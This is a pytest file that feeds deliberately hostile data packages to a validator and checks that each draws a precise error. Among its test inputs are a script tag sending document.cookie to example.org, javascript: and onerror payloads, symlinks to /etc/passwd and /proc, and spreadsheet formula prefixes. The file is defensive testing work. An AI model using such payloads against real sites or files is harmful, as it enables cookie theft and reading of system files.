"""Packages built to break the validator: each gets a message naming file, row and field, never a crash."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import stat
from pathlib import Path

import pytest

from coopmap.dataset.package import descriptor
from coopmap.dataset.problem import ordered
from coopmap.dataset.schema import descriptor_checked
from coopmap.dataset.validate import rule_problems, validate
from tests.support.app import component_names, run


def _edit(name: str, change):
    def apply(d) -> None:
        path = d.root / name
        path.write_bytes(change(path.read_bytes()))

    return apply


def _descriptor(change):
    return _edit("datapackage.json", lambda data: json.dumps(change(json.loads(data))).encode())


def _resource(name: str, change):
    """Change one resource of the descriptor, the others kept."""
    return _descriptor(
        lambda d: {**d, "resources": [change(r) if r["name"] == name else r for r in d["resources"]]}
    )


def _symlink(name: str, target: str):
    def apply(d) -> None:
        (d.root / name).unlink()
        os.symlink(target, d.root / name)

    return apply


def _field(resource: dict, name: str, **changes) -> dict:
    """The resource with one field of its schema changed."""
    fields = [{**f, **changes} if f["name"] == name else f for f in resource["schema"]["fields"]]
    return {**resource, "schema": {**resource["schema"], "fields": fields}}


def _fifo(name: str):
    def apply(d) -> None:
        (d.root / name).unlink(missing_ok=True)
        os.mkfifo(d.root / name)

    return apply


def _link_new(name: str, target: str):
    return lambda d: os.symlink(target, d.root / name)


def _device(name: str):
    return lambda d: os.mknod(d.root / name, 0o600 | stat.S_IFCHR, os.makedev(1, 5))  # as /dev/zero


def _renamed_table(name: str, path: str, change):
    """The table moved to another file name, named so in the descriptor, and its bytes changed."""

    def apply(d) -> None:
        old = next(r["path"] for r in descriptor(d.root)["resources"] if r["name"] == name)
        (d.root / path).write_bytes(change((d.root / old).read_bytes()))
        (d.root / old).unlink()
        _resource(name, lambda r: {**r, "path": path})(d)

    return apply


def _stored_text(change):
    """The stored text changed, and its hash in the descriptor with it, as a package's author would."""

    def apply(d) -> None:
        path = d.root / "texts" / "gnews-zh-1771034.md"
        path.write_text(change(path.read_text(encoding="utf-8")), encoding="utf-8")
        digest = hashlib.sha256(path.read_bytes()).hexdigest()
        _resource("text-gnews-zh-1771034", lambda r: {**r, "hash": f"sha256:{digest}"})(d)

    return apply


def _lookup(file: str, row: int, field: str, value: str, table: str, key: str | None = None) -> str:
    """Frictionless's words for a value a foreign key does not find."""
    return (
        f'{file}, row {row}, field {field}: foreign-key: for "{field}": values "{value}" not found in the '
        f'lookup table "{table}" as "{key or field}"'
    )


def _cut_short() -> list[str]:
    """events.csv cut inside row 10 (E009): its cells are missing, and what looks up later rows fails."""
    required = {"actor", "actor_en", "category", "partner_basis", "partner_src", "passage", "passage_en"}
    required |= {"passage_kind", "source_id", "summary_en", "summary_zh"}
    empty = ["amount_text", "amount_usd", "count_stated", "count_unit", "financing", "group_id", "notes_en"]
    empty += ["notes_zh", "place", "year"]
    row = []
    for field in sorted([*required, *empty, "country_iso3"]):
        if field == "country_iso3":
            row += [
                "events.csv, row 10, field country_iso3: 'BO' is not an ISO 3166-1 alpha-3 code",
                "events.csv, row 10, field country_iso3: constraint-error: 'BO': constraint \"pattern\" is "
                '"^[A-Z]{3}$"',
            ]
            continue
        if field in required:
            why = 'constraint-error: \'None\': constraint "required" is "True"'
            row.append(f"events.csv, row 10, field {field}: {why}")
        row.append(f"events.csv, row 10, field {field}: missing-cell: ")
    weighing = [(12, "E010"), (13, "E010"), (14, "E011"), (15, "E011"), (16, "E012"), (17, "E013")]
    weighing += [(18, "E014"), (19, "E015"), (23, "E012")]
    return [
        *(_lookup("corroborations.csv", n, "event_id", event, "events") for n, event in weighing),
        _lookup("event_passages.csv", 4, "event_id", "E012", "events"),
        "events.csv, row 10: the file ends inside this row: it looks cut short",
        *row,
    ]


HOSTILE = {
    # kind: (how the copy is broken, every problem the validator must report: file, row and field, then why)
    "descriptor_a_list": (_descriptor(lambda d: []), "datapackage.json: is a JSON list, not an object"),
    "resources_not_a_list": (
        _descriptor(lambda d: {**d, "resources": "events.csv"}),
        "datapackage.json, field resources: must be a list of resources, one or more",
    ),
    "fields_not_a_list": (
        _resource("events", lambda r: {**r, "schema": {"fields": 5}}),
        "datapackage.json, field resources.events.schema.fields: must be a list of fields, each with a name",
    ),
    "resource_without_path": (
        _resource("events", lambda r: {k: v for k, v in r.items() if k != "path"}),
        "datapackage.json, field resources.events.path: must be a non-empty string",
    ),
    "field_named_twice": (
        _resource("events", lambda r: {**r, "schema": {"fields": [{"name": "a"}, {"name": "a"}]}}),
        "datapackage.json, field resources.events.schema.fields: names a field twice",
    ),
    "header_duplicated": (
        _edit("events.csv", lambda b: b.replace(b"scope,", b"event_id,", 1)),
        [
            'events.csv, field scope: duplicate-label: at position "1"',
            "events.csv, row 1: the header lacks scope",
            "events.csv, row 1: the header names 'event_id' more than once",
        ],
    ),
    "header_missing": (
        _edit("groups.csv", lambda b: b.split(b"\n", 1)[1]),
        [  # without its header, groups.csv holds no group that events and members look up
            *(_lookup("events.csv", n, "group_id", "africa", "groups") for n in (4, 9)),
            *(_lookup("group_members.csv", n, "group_id", "africa", "groups") for n in range(2, 57)),
            *(
                f"groups.csv, field {field}: incorrect-label: "
                for field in ("group_id", "kind", "membership_en", "membership_zh", "name_en", "name_zh")
            ),
            "groups.csv, field notes_en: blank-label: ",
            "groups.csv, field notes_zh: blank-label: ",
            'groups.csv, field source_names: duplicate-label: at position "4"',
            "groups.csv, row 1: the header lacks group_id, kind, name_en, name_zh, source_names, "
            "membership_en, membership_zh, notes_en, notes_zh",
            "groups.csv, row 1: the header names '', '非洲' more than once",
        ],
    ),
    "gbk_encoding": (
        _edit("events.csv", lambda b: b.decode("utf-8").encode("gbk", "replace")),
        "events.csv: encoding-error: 'utf-8' codec can't decode byte 0xb6 in position 255: "
        "invalid start byte",
    ),
    "utf16_encoding": (
        _edit("groups.csv", lambda b: b.decode("utf-8").encode("utf-16")),
        "groups.csv: encoding-error: 'utf-8' codec can't decode byte 0xff in position 0: invalid start byte",
    ),
    "table_is_a_link_out": (
        _symlink("groups.csv", "/etc/passwd"),
        "groups.csv: is a link that leaves the package folder",
    ),
    "stored_text_is_a_link_out": (
        _symlink("texts/gnews-zh-1771034.md", "/etc/hostname"),
        "texts/gnews-zh-1771034.md: is a link that leaves the package folder",
    ),
    "year_below_range": (
        _edit("events.csv", lambda b: b.replace(b",2010,", b",-5,", 1)),
        'events.csv, row 8, field year: constraint-error: \'-5\': constraint "minimum" is "1900"',
    ),
    "year_far_ahead": (
        _edit("events.csv", lambda b: b.replace(b",2010,", b",99999,", 1)),
        [
            "events.csv, row 8, field year: '99999' does not stand in the passage",
            'events.csv, row 8, field year: constraint-error: \'99999\': constraint "maximum" is "2100"',
        ],
    ),
    "amount_not_finite": (
        _edit("events.csv", lambda b: b.replace(b",130000000,", b",inf,", 1)),
        "events.csv, row 8, field amount_usd: type-error: 'inf': type is \"integer/default\"",
    ),
    # A descriptor that departs from this project's schema: refused before a table is read.
    "resource_not_a_table": (
        _resource("events", lambda r: {k: v for k, v in r.items() if k != "type"}),
        "datapackage.json, field resources.events.type: required: 'table'",
    ),
    "resource_dropped": (
        _descriptor(
            lambda d: {**d, "resources": [r for r in d["resources"] if r["name"] != "original_passages"]}
        ),
        "datapackage.json, field resources: lacks the table 'original_passages'",
    ),
    "version_missing": (
        _descriptor(lambda d: {k: v for k, v in d.items() if k != "version"}),
        "datapackage.json, field version: required: a non-empty text",
    ),
    "title_missing": (
        _descriptor(lambda d: {k: v for k, v in d.items() if k != "title"}),
        "datapackage.json, field title: required: a non-empty text",
    ),
    "licences_missing": (
        _descriptor(lambda d: {k: v for k, v in d.items() if k != "licenses"}),
        "datapackage.json, field licenses: required: a list of licences, the first with a name",
    ),
    "licences_empty": (
        _descriptor(lambda d: {**d, "licenses": []}),
        "datapackage.json, field licenses: required: a list of licences, the first with a name",
    ),
    "licence_without_a_name": (
        _descriptor(lambda d: {**d, "licenses": [{"path": "https://example.org/licence"}]}),
        "datapackage.json, field licenses[0].name: required: the licence's name, as cited",
    ),
    "table_declared_utf16": (
        _resource("groups", lambda r: {**r, "encoding": "utf-16"}),
        "datapackage.json, field resources.groups.encoding: 'utf-16', where this project reads only 'utf-8'",
    ),
    "table_declared_latin1": (
        _resource("groups", lambda r: {**r, "encoding": "latin-1"}),
        "datapackage.json, field resources.groups.encoding: 'latin-1', where this project reads only 'utf-8'",
    ),
    "year_declared_a_string": (
        _resource("events", lambda r: _field(r, "year", type="string", constraints={})),
        [
            "datapackage.json, field resources.events.schema.fields.year.type: 'string', where this "
            "project's "
            "schema has 'integer'",
            "datapackage.json, field resources.events.schema.fields.year.constraints: {}, where this "
            "project's "
            'schema has {"minimum": 1900, "maximum": 2100}',
        ],
    ),
    "enum_removed": (
        _resource("events", lambda r: _field(r, "scope", constraints={"required": True})),
        'datapackage.json, field resources.events.schema.fields.scope.constraints: {"required": true}, '
        'where this project\'s schema has {"enum": ["country", "group", "aggregate"], "required": true}',
    ),
    "field_removed": (
        _resource(
            "events",
            lambda r: {
                **r,
                "schema": {
                    **r["schema"],
                    "fields": [f for f in r["schema"]["fields"] if f["name"] != "amount_text"],
                },
            },
        ),
        "datapackage.json, field resources.events.schema.fields: lacks amount_text",
    ),
    "profile_fetched_from_the_web": (
        _descriptor(lambda d: {**d, "profile": "http://127.0.0.1:9/profile.json"}),
        "datapackage.json, field profile: is not part of this project's schema",
    ),
    "schema_of_another_address": (
        _descriptor(lambda d: {**d, "$schema": "http://127.0.0.1:9/profile.json"}),
        "datapackage.json, field $schema: 'http://127.0.0.1:9/profile.json', where this project reads only "
        "'https://datapackage.org/profiles/2.0/datapackage.json'",
    ),
    "dialect_declared": (
        _resource("events", lambda r: {**r, "dialect": {"delimiter": ";"}}),
        "datapackage.json, field resources.events.dialect: is not part of this project's schema",
    ),
    "table_compressed": (
        _resource("groups", lambda r: {**r, "path": "groups.csv.gz"}),
        "datapackage.json, field resources.groups.path: 'groups.csv.gz' is compressed: a package holds its "
        "files plain",
    ),
    "descriptor_nested_too_deep": (
        _edit("datapackage.json", lambda b: b[:-2] + b', "deep": ' + b"[" * 1500 + b"]" * 1500 + b"}\n"),
        "datapackage.json: cannot read the descriptor: nested too deep",
    ),
    # Cells frictionless reads as their type, and the loader would not.
    "integer_with_a_plus": (
        _edit("events.csv", lambda b: b.replace(b",130000000,", b",+130000000,", 1)),
        "events.csv, row 8, field amount_usd: '+130000000' is not written as this project reads an integer: "
        "ASCII digits, '-' before a negative",
    ),
    "integer_with_an_underscore": (
        _edit("events.csv", lambda b: b.replace(b",2010,", b",2_010,", 1)),
        "events.csv, row 8, field year: '2_010' is not written as this project reads an integer: ASCII "
        "digits, '-' before a negative",
    ),
    "integer_beyond_64_bits": (
        _edit("events.csv", lambda b: b.replace(b",130000000,", b",130000000000000000000,", 1)),
        [
            "events.csv, row 8, field amount_usd: '130000000000000000000' is beyond the integers this "
            "project reads (64 bits: at most 9,223,372,036,854,775,807)",
            "events.csv, row 8, field amount_usd: 130000000000000000000 differs from '1.3 亿美元' = "
            "130000000",
        ],
    ),
    "boolean_in_capitals": (
        _edit("country_aliases.csv", lambda b: b.replace(b",true,", b",TRUE,", 1)),
        "country_aliases.csv, row 2, field preferred: 'TRUE' is not written as this project reads true or "
        "false: in lower case",
    ),
    "boolean_as_a_number": (
        _edit("country_aliases.csv", lambda b: b.replace(b",true,", b",1,", 1)),
        "country_aliases.csv, row 2, field preferred: '1' is not written as this project reads true or "
        "false: in lower case",
    ),
    "a_million_blank_lines": (
        _edit("categories.csv", lambda b: b + b"\n" * 1_000_000),
        [
            "categories.csv: 999,000 more blank rows not listed: the first 1,000 are",
            *(f"categories.csv, row {n}: a blank row: a table has none" for n in range(10, 1010)),
        ],
    ),
    # What the folder holds: only regular files are opened, whether the package names them or not.
    "table_is_a_fifo": (
        _fifo("groups.csv"),
        "groups.csv: is a FIFO, not a regular file",
    ),
    "unreferenced_fifo": (
        _fifo("notes.pipe"),
        "notes.pipe: is a FIFO, not a regular file",
    ),
    "link_to_proc": (
        _link_new("pagemap", "/proc/self/pagemap"),
        "pagemap: is a link that leaves the package folder",
    ),
    "character_device": (
        _device("zero"),
        "zero: is a character device, not a regular file",
    ),
    "link_loop": (
        _link_new("loop", "loop"),
        "loop: is a link that leads nowhere",
    ),
    "table_named_txt_with_markup": (
        _renamed_table(
            "categories", "categories.txt", lambda b: b.replace(b"Training", b"<b>Training</b>", 1)
        ),
        "categories.txt, row 2, field definition_en: holds markup ('<b>Training<'): texts are plain, never "
        "HTML or "
        "Markdown",
    ),
    "table_without_suffix_with_markup": (
        _renamed_table("groups", "groups", lambda b: b.replace(b"Africa", b"<i>Africa</i>", 1)),
        "groups, row 2, field name_en: holds markup ('<i>Africa</i'): texts are plain, never HTML or "
        "Markdown",
    ),
    "right_to_left_override_in_the_stored_text": (
        _stored_text(lambda text: text + "\u202e\u0644\u0627 some words\n"),
        "texts/gnews-zh-1771034.md, line 64: holds U+202E (RIGHT-TO-LEFT OVERRIDE), an invisible character "
        "no text needs",
    ),
    "noncharacter_in_the_stored_text": (
        _stored_text(lambda text: text + "end\uffff\n"),
        "texts/gnews-zh-1771034.md, line 64: holds U+FFFF (a noncharacter), an invisible character no text "
        "needs",
    ),
    "zero_width_in_a_name": (
        _edit("events.csv", lambda b: b.replace("厄瓜多尔".encode(), "厄瓜\u200b多尔".encode(), 1)),
        [
            "events.csv, row 2, field partner_src: '厄瓜\\u200b多尔' does not stand in the passage "
            "(paragraph 8)",
            "events.csv, row 2, field partner_src: holds U+200B (ZERO WIDTH SPACE), an invisible character "
            "no "
            "text needs",
            "events.csv, row 2, field partner_src: unknown country name '厄瓜\\u200b多尔': add it to "
            "country_aliases.csv if it is a real spelling",
        ],
    ),
    "right_to_left_override_in_a_name": (
        _edit("groups.csv", lambda b: b.replace(b"Africa", "Af\u202erica".encode(), 1)),
        "groups.csv, row 2, field name_en: holds U+202E (RIGHT-TO-LEFT OVERRIDE), an invisible character no "
        "text needs",
    ),
    "nul_byte": (
        _edit("events.csv", lambda b: b.replace(b",2011,", b",20\x0011,", 1)),
        [
            "events.csv, row 2, field year: holds U+0000 (a control character), an invisible character no "
            "text needs",
            "events.csv, row 2, field year: type-error: '20\\x0011': type is \"integer/default\"",
        ],
    ),
    "byte_order_mark_mid_file": (
        _edit("events.csv", lambda b: b.replace(b"\nE002", b"\n\xef\xbb\xbfE002", 1)),
        [
            'corroborations.csv, row 3, field event_id: foreign-key: for "event_id": values "E002" not found '
            'in the lookup table "events" as "event_id"',
            "events.csv, row 3, field event_id: constraint-error: '\\ufeffE002': constraint \"pattern\" is "
            '"^E[0-9]{3,}$"',
            "events.csv, row 3, field event_id: event \ufeffE002 has no corroboration row (not_found, with "
            "the search described, is an honest answer)",
            "events.csv, row 3, field event_id: holds U+FEFF (ZERO WIDTH NO-BREAK SPACE), an invisible "
            "character no text needs",
        ],
    ),
    "truncated_file": (
        _edit("events.csv", lambda b: b[: b.index(b"\nE009") + 16]),
        _cut_short(),
    ),
    "resource_file_missing": (
        lambda d: (d.root / "groups.csv").unlink(),
        "groups.csv: scheme-error: [Errno 2] No such file or directory: 'groups.csv'",
    ),
    "resource_path_absolute": (
        _descriptor(
            lambda d: {
                **d,
                "resources": [
                    {**r, "path": "/etc/passwd"} if r["name"] == "groups" else r for r in d["resources"]
                ],
            }
        ),
        "datapackage.json, field resources.groups.path: '/etc/passwd' leaves the package folder",
    ),
    "stored_text_path_absolute": (
        _edit("sources.csv", lambda b: b.replace(b"texts/gnews-zh-1771034.md", b"/etc/hostname")),
        "sources.csv, row 3, field text_path: '/etc/hostname' leaves the package folder",
    ),
    "cell_of_50_megabytes": (
        lambda d: d.change("events.csv", "E002", notes_en="x" * 50_000_000),
        [
            "events.csv, row 3, field notes_en: holds 50,000,000 characters, more than the 20,000 a cell may "
            "hold",
            "events.csv, row 3, field notes_zh: empty where notes_en is not: every text needs both languages",
        ],
    ),
    "passage_of_a_million_characters": (
        _edit("event_passages.csv", lambda b: b.replace("今天，".encode(), "今天，".encode() * 333_334, 1)),
        [
            "event_passages.csv, row 2, field passage: holds 1,000,034 characters, more than the 20,000 a "
            "cell "
            "may hold",
            "event_passages.csv, row 2, field passage: not found verbatim in the stored text of "
            "gnews-zh-1771034: '" + "今天，" * 20 + "'",
            "texts/gnews-zh-1771034.md, paragraph 8: not quoted by any event, further passage or context "
            "row: "
            "'今天，那里犯罪仍然猖獗，但警察和内部情报界只监控他们想要控制的任何人。'",
        ],
    ),
    "markup_in_the_descriptor": (
        _descriptor(lambda d: {**d, "title": '<img src="http://example.org/x.png" onerror="alert(1)">'}),
        "datapackage.json, field title: holds markup ('<img src=\"ht'): texts are plain, never HTML or "
        "Markdown",
    ),
    "group_member_not_a_country": (
        _edit("group_members.csv", lambda b: b.replace(b"africa,AGO,", b"africa,EUU,", 1)),
        "group_members.csv, row 2, field country_iso3: 'EUU' is not an ISO 3166-1 alpha-3 code",
    ),
    "noncharacter_in_the_title": (  # it passed once, and the figures' converter aborted the server on it
        _descriptor(lambda d: {**d, "title": d["title"] + "\uffff"}),
        "datapackage.json, field title: holds U+FFFF (a noncharacter), an invisible character no text needs",
    ),
    "noncharacter_in_a_publisher": (
        _edit("sources.csv", lambda b: b.replace(b",GNews,", ",GNews\ufffe,".encode(), 1)),
        "sources.csv, row 3, field publisher: holds U+FFFE (a noncharacter), an invisible character no text "
        "needs",
    ),
    "hangul_filler_as_a_name": (
        _edit("groups.csv", lambda b: b.replace(b",Africa,", ",\u3164,".encode(), 1)),
        "groups.csv, row 2, field name_en: holds U+3164 (HANGUL FILLER), an invisible character no text "
        "needs",
    ),
    "blank_braille_pattern_in_a_name": (
        lambda d: d.change("events.csv", "E001", actor_en="\u2800"),
        "events.csv, row 2, field actor_en: holds U+2800 (BRAILLE PATTERN BLANK), an invisible character no "
        "text needs",
    ),
    "grapheme_joiner_in_a_name": (
        _edit("groups.csv", lambda b: b.replace(b"Africa", "Af\u034frica".encode(), 1)),
        "groups.csv, row 2, field name_en: holds U+034F (COMBINING GRAPHEME JOINER), an invisible "
        "character no text needs",
    ),
    "hangul_choseong_filler_in_a_name": (
        _edit("groups.csv", lambda b: b.replace("非洲".encode(), "\u115f非洲".encode(), 1)),
        "groups.csv, row 2, field name_zh: holds U+115F (HANGUL CHOSEONG FILLER), an invisible character no "
        "text needs",
    ),
    "formula_after_spaces": (
        lambda d: d.change("events.csv", "E003", notes_en="  =1+1"),
        "events.csv, row 4, field notes_en: begins with '=' after whitespace, which a spreadsheet would run "
        "as a formula",
    ),
    "formula_after_a_line_break": (
        lambda d: d.change("events.csv", "E003", notes_en="\n=1+1"),
        "events.csv, row 4, field notes_en: begins with '=' after whitespace, which a spreadsheet would run "
        "as a formula",
    ),
    "full_width_formula": (
        lambda d: d.change("groups.csv", "asean", notes_en="＝1+1"),
        "groups.csv, row 3, field notes_en: begins with '＝', which a spreadsheet would run as a formula",
    ),
}


def _expected(kind: str) -> list[str]:
    expected = HOSTILE[kind][1]
    return [expected] if isinstance(expected, str) else expected


@pytest.mark.parametrize(
    "kind",
    # a size far past what the project supports, checked where sizes are: not in the fast tier
    [pytest.param(k, marks=pytest.mark.bench) if k == "cell_of_50_megabytes" else k for k in HOSTILE],
)
def test_a_hostile_package_is_refused_with_file_row_and_field(data_copy, kind):
    breaks, _ = HOSTILE[kind]
    breaks(data_copy)
    problems = [str(p).replace(f"{data_copy.root}/", "") for p in validate(data_copy.root)]
    assert problems == _expected(kind)


def _text_cells(data_copy, change) -> set[tuple[str, int, str]]:
    """Change every non-empty text cell of every table; (file, row, field) of each one changed."""
    changed = set()
    for resource in descriptor(data_copy.root)["resources"]:
        texts = [f["name"] for f in resource.get("schema", {}).get("fields", []) if f["type"] == "string"]
        if not texts:
            continue
        rows = data_copy.rows(resource["path"])
        for row_no, row in enumerate(rows, start=2):
            for field in texts:
                if row[field]:
                    row[field] = change(row[field])
                    changed.add((resource["path"], row_no, field))
        with (data_copy.root / resource["path"]).open("w", encoding="utf-8", newline="") as out:
            writer = csv.DictWriter(out, fieldnames=list(rows[0]), quoting=csv.QUOTE_ALL)  # a CR stays in
            writer.writeheader()
            writer.writerows(rows)
    return changed


def _reported(data_copy, because: str) -> set[tuple[str, int, str]]:
    return {
        (str(Path(p.file).relative_to(data_copy.root)), p.row, p.field)
        for p in validate(data_copy.root)
        if p.message.startswith(because)
    }


MARKUP = {
    "html": '<b title="x">bold</b>',
    "script": "<script>fetch('http://example.org/?'+document.cookie)</script>",
    "javascript_link": "[read more](javascript:alert(document.domain))",
    "image": "![x](http://example.org/pixel.png)",
}


@pytest.mark.parametrize("kind", list(MARKUP))
def test_markup_in_every_text_field_is_refused_cell_by_cell(data_copy, kind):
    changed = _text_cells(data_copy, lambda text: f"{text} {MARKUP[kind]}")
    assert len(changed) > 900  # every table's texts: ids, codes, passages, notes, names, links
    assert _reported(data_copy, "holds markup (") == changed


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_prefix_in_every_text_field_is_refused_cell_by_cell(data_copy, prefix):
    changed = _text_cells(data_copy, lambda text: prefix + text)
    assert (
        _reported(data_copy, f"begins with {prefix!r}, which a spreadsheet would run as a formula") == changed
    )


@pytest.mark.bench  # a size the project supports, checked where sizes are: not in the fast tier
def test_a_million_rows_of_one_country_are_listed_a_thousand_at_a_time(data_copy):
    """A million copies of one claim on Liberia: refused by the project's rules, their problems counted
    and the first thousand listed. Frictionless, which finds nothing wrong in these rows, is left out:
    it takes minutes to read them (bench/README.md)."""
    path = data_copy.root / "events.csv"
    liberia = next(row for row in data_copy.rows("events.csv") if row["event_id"] == "E002")
    line = io.StringIO()
    csv.writer(line, lineterminator="\n").writerow(["{}", *list(liberia.values())[1:]])
    template = line.getvalue().replace("{", "{{").replace("}", "}}").replace("{{}}", "{}", 1)
    with path.open("a", encoding="utf-8", newline="") as out:
        out.writelines(template.format(f"E{n:07d}") for n in range(1_000_000))
    found = rule_problems(data_copy.root, descriptor_checked(descriptor(data_copy.root)))
    problems = [str(p).replace(f"{data_copy.root}/", "") for p in ordered(found)]
    assert problems[0] == "events.csv: 1,999,000 more problems not listed: the first 1,000 are"
    assert problems[1:3] == [
        "events.csv, row 17, field event_id: event E0000000 has no corroboration row (not_found, with the "
        "search described, is an honest answer)",
        "events.csv, row 17, field passage: duplicate of event E002: same partner, category and passage",
    ]
    assert len(problems) == 1001


@pytest.mark.parametrize("ending", [b"\r\n", b"\r"])
def test_other_line_endings_read_as_the_same_package(data_copy, ending):
    _edit("events.csv", lambda b: b.replace(b"\n", ending))(data_copy)
    assert validate(data_copy.root) == []


@pytest.mark.parametrize(
    "kind",
    [
        *("descriptor_a_list", "header_duplicated", "gbk_encoding", "truncated_file"),
        *("right_to_left_override_in_a_name", "markup_in_the_descriptor", "resource_path_absolute"),
        *("stored_text_is_a_link_out", "noncharacter_in_the_title", "year_declared_a_string"),
        *("table_is_a_fifo", "right_to_left_override_in_the_stored_text", "boolean_in_capitals"),
    ],
)
def test_the_app_shows_a_hostile_packages_problems_and_nothing_else(data_copy, monkeypatch, kind):
    HOSTILE[kind][0](data_copy)
    monkeypatch.setenv("DASHBOARD_DATA", str(data_copy.root))
    at = run()
    assert [e.value for e in at.error] == ["The data package is invalid; nothing is shown until it is fixed."]
    assert at.code[0].value.replace(f"{data_copy.root}/", "") == "\n".join(_expected(kind))
    assert "coopmap_map" not in component_names(at)
    assert not at.dataframe and not at.get("download_button")
